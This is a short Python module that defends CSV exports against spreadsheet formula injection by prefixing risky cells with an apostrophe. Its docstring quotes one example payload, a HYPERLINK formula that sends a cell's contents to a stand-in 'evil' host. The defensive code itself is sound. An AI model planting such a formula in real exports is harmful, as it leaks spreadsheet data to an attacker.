"""CSV cells that a spreadsheet cannot run: the one rule both CSV exports (search, pledges list) use.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before looking) is read as a formula by Excel, LibreOffice and Google Sheets:
a crawled title such as ``=HYPERLINK("http://evil/?"&A1,"click")`` would run in the analyst's
spreadsheet (CSV injection). Such a cell is prefixed with an apostrophe, which spreadsheets show
as text and do not display. Plain numbers (``-3``, ``+1.5``) are left as they are.
"""

from __future__ import annotations

import re

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_safe(value: object) -> object:
    """``value`` as a CSV cell no spreadsheet evaluates; non-strings (numbers) pass unchanged."""
    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value
